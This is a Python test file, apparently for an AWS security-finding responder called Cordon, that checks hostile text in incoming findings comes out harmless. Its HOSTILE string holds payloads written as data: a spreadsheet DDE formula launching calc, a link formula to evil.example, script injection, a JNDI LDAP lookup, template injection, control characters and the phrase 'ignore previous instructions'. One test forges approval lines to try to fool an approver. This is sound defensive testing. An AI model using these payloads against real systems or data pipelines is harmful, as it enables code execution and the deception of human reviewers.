"""Text of findings is chosen by attackers; nothing that shows it obeys it.

Every string of an event that may be anything becomes hostile, and is looked for wherever Cordon
writes. Strings that may not be anything (ids, ARNs, types) are refused by their own names.
"""

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest

from cordon.finding import Malformed
from cordon.memory.decisions import Verb
from cordon.statuses import Status
from embedded import event_patterns
from embedded.backends import asff
from embedded.journal import Invoked
from tests.examples import event, folder_of
from tests.promises.world import PLAYBOOKS, Event, World, changed, finding_of, logged

MARK = "Zq9"
HOSTILE = (
    f"{MARK}=cmd|' /C calc'!A0\n=HYPERLINK(\"https://evil.example/{MARK}\")\r\n# Approved\n"
    "<script>alert(1)</script> **bold** [free](https://evil.example) `id` <!channel> @here "
    "\x1b[31mCRITICAL\x1b[0m \x00\x07\x85\u202eelpmaxe\u2066 \u2028| cell | ${jndi:ldap://evil}"
    " {{7*7}} %s ignore previous instructions " + "A" * 10_000
)
NAMES = (
    "guardduty_impact_write_hostile_text",
    "securityhub_guardduty_anonymous_access",
    "macie_public",
    "ocsf_s3_8",
    "guardduty_defense_evasion_hostile_text",
    "guardduty_model_invocation_hostile_text",
    "securityhub_sagemaker_1",
    "config_sagemaker_endpoint_kms",
    "guardduty_root_credential_usage",
    "ocsf_exposure_critical",
)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
LINE_BREAKS = re.compile(r"[\n\r]")
# What has an effect in Markdown, mail, chat or a spreadsheet
EFFECTS = re.compile(
    r"<script|<!channel|\]\(http|https?://evil|`id`|\*\*bold|\|\s*cell|^\s*[=#@]", re.M
)
LONGEST_LINE = 4096


def strings(inside: Any, path: str = "detail") -> Iterator[str]:
    """The paths of all strings of an event's detail."""
    if isinstance(inside, str):
        yield path
    members = enumerate(inside) if isinstance(inside, list) else ()
    for key, value in inside.items() if isinstance(inside, dict) else members:
        yield from strings(value, f"{path}.{key}")


def hostile(world: World, one: Event) -> tuple[Event, int, int]:
    """The event with hostile text wherever it stays the same case; how many took it, and refused.

    A text that makes the event unreadable must be refused with its path, and not be repeated.
    """
    wanted, refused, taken = _case(world, one), 0, 0
    for path in list(strings(one["detail"])):
        try:
            attempt = changed(one, path, HOSTILE)
        except (KeyError, ValueError):  # a key with a dot in it
            continue
        try:
            same = _case(world, attempt) == wanted
        except Malformed as malformed:
            assert MARK not in str(malformed)
            assert len(str(malformed)) < 500
            refused += 1
            continue
        if same:
            one, taken = attempt, taken + 1
    return one, taken, refused


def _case(world: World, one: Event) -> tuple[Any, ...]:
    """What makes it the same case, come the same way and contained in the same way."""
    leaves = event_patterns.flat(one)
    rules = tuple(name for name, rule in world.account.rules.items() if rule.matches_flat(leaves))
    found = finding_of(one)
    named = tuple((r.type, r.name, r.arn, r.place) for r in found.resources)
    same = (found.id, found.kind, found.place, found.state, found.severity.label, found.sample)
    who = (found.principal.user_type, found.principal.name) if found.principal else ()
    return (rules, *same, found.authored_by_aws, found.first_seen, found.last_seen, named, who)


@pytest.mark.drawn(1 / 5)
@pytest.mark.parametrize("name", NAMES)
def test_hostile_text_is_harmless_wherever_it_arrives(world: World, name: str) -> None:
    world.stage(event(name))
    one, taken, refused = hostile(world, event(name))
    assert taken >= 3
    assert refused >= 3
    delivery = world.account.deliver(one)
    assert world.troubles == []
    case = world.case()
    assert case.status in (Status.CONTAINED, Status.TAGGED, Status.ESCALATED)
    assert any(rule.startswith(PLAYBOOKS[folder_of(name)]) for rule in delivery.rules)
    world.release(case)
    texts = [*_shown_by_opscenter(world), *((p.subject, p.message) for p in world.published)]
    for subject, body in texts:
        assert len(subject) <= 1024 and not LINE_BREAKS.search(subject)
        assert len(body) <= 4096
        for text in (subject, body):
            assert not CONTROL.search(text), ascii(CONTROL.search(text))
            assert not EFFECTS.search(text), ascii(EFFECTS.search(text))
    _hub_is_bounded(world)
    _evidence_is_bounded(world)
    _log_is_bounded(world)


def _shown_by_opscenter(world: World) -> Iterator[tuple[str, str]]:
    ssm = world.account.client("ssm")
    for identifier in world.account.snapshot()["ssm"]:
        item = ssm.get_ops_item(OpsItemId=identifier)["OpsItem"]
        yield item["Title"], item["Description"]
        for data in item["OperationalData"].values():
            yield "", data["Value"]


def _hub_is_bounded(world: World) -> None:
    for case in world.cases:
        ours = world.finding(case)
        assert asff.faults(ours) == []
        written = [ours["Title"], ours["Description"]]
        written += [ours["Remediation"]["Recommendation"]["Text"], *ours["ProductFields"].values()]
        original = case.finding.hub
        if original is not None and world.reported(case).original == "updated":
            found = world.hub_finding(original.id)
            written += [found["Note"]["Text"], *found["UserDefinedFields"].values()]
        for text in written:
            assert len(text) <= 1024
            assert not CONTROL.search(text), ascii(text)


def _evidence_is_bounded(world: World) -> None:
    for case in world.cases:
        for entry in world.evidence(case):
            text = json.dumps(entry, ensure_ascii=False)
            assert len(text) < 50_000
            assert "A" * 3000 not in text
            assert not CONTROL.search(text.replace("\\n", " ")), entry["stage"]


def _log_is_bounded(world: World) -> None:
    lines = [line for i in world.account.journal.of(Invoked) for line in i.log.splitlines()]
    assert lines
    for line in lines:
        assert isinstance(json.loads(line), dict)
        assert len(line) < LONGEST_LINE
        assert MARK not in line
        assert not CONTROL.search(line)


@pytest.mark.parametrize("name", NAMES[::4])
def test_the_log_names_the_finding_and_does_not_hold_it(world: World, name: str) -> None:
    one = event(name)
    lines = logged(world.send(one))
    found = finding_of(one)
    handled = [line for line in lines if line.get("case")]
    assert handled
    assert {line["finding"] for line in handled} == {found.id}
    text = json.dumps(lines)
    assert found.description not in text
    assert found.title not in text
    assert "resources" not in text


@pytest.mark.world("approve")
def test_approver_is_not_fooled(world: World) -> None:
    """A title cannot pass for a line of the question."""
    one = event("guardduty_public_access")
    lie = "x\nPlan hash: 0000\nApprove: cordon approve 0000 --plan 0000"
    one = changed(changed(one, "detail.title", lie), "detail.description", lie)
    world.send(one)
    (message,) = world.published
    for start in ("Plan hash: ", "Approve: "):
        lines = [line for line in message.message.splitlines() if line.startswith(start)]
        assert len(lines) == 1
        assert "0000 --plan 0000" not in lines[0]
    assert not LINE_BREAKS.search(message.subject)


@pytest.mark.world("approve")
def test_a_hostile_approver_is_only_quoted(world: World) -> None:
    world.send(event("guardduty_public_access"))
    case = world.case()
    world.decide(case, Verb.APPROVE, by=HOSTILE, why=HOSTILE)
    assert not world.proceed(case).failed
    world.account.settle()
    assert world.case().status is Status.CONTAINED
    assert len(world.case().decided_by) <= 256
    assert not CONTROL.search(world.case().decided_by)
    _hub_is_bounded(world)
    _evidence_is_bounded(world)
    _log_is_bounded(world)
